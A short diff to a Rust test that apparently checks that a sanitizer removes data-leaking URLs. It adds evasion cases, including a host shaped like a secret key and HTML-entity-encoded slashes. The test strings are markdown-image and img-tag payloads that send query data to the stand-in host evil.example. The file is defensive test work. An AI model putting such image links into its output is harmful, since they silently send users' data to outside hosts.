@@ -120,6 +120,10 @@ fn an_address_is_taken_out_wherever_it_is_cut() {
         "<img src=//evil.example/p?d=abc>",
         "(//evil.example/p?d=abc)",
         "![x]( //evil.example/p?d=abc)",
+        // The host begins like a secret.
+        "![x](https://sk-test-9f.example/p?d=abc) ",
+        "'/\\sk-test-9f/p?d=abc ",
+        "![x](https:&#47;&#47;evil.example/漢&sol;p?d=abc)",
         "<img src=\n //evil.example/p?d=abc>",
         &format!("![x]({}//evil.example/p?d=abc)", " ".repeat(300)),
         "看https://evil.example/漢字?d=abc吧 ",
